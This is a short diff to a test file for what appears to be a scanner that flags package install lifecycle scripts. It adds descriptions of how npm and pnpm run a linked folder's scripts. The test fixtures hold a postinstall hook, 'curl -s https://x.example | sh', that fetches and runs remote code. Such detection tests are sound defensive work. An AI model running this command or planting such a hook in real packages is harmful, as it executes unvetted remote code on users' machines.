@@ -330,6 +330,7 @@ const cases: Case[] = [
     },
     head: { 'vendor/z/package.json': pkg({ scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
     want: ['CPU027@vendor/z/package.json:8'],
+    says: 'runs the lifecycle scripts of this workspace or linked folder',
   },
   {
     // arborist's rebuild queues a link's prepare with its install scripts.
@@ -361,6 +362,8 @@ const cases: Case[] = [
     },
     head: { 'vendor/z/package.json': pkg({ scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
     want: ['CPU027@vendor/z/package.json:8'],
+    // Not "the project's own install scripts": pnpm builds the folder as a dependency.
+    says: 'installs this folder as a dependency and runs its preinstall, install and postinstall (not prepare)',
   },
   {
     // pnpm's runPostinstallHooks runs preinstall, install and postinstall for a dependency: never its prepare.
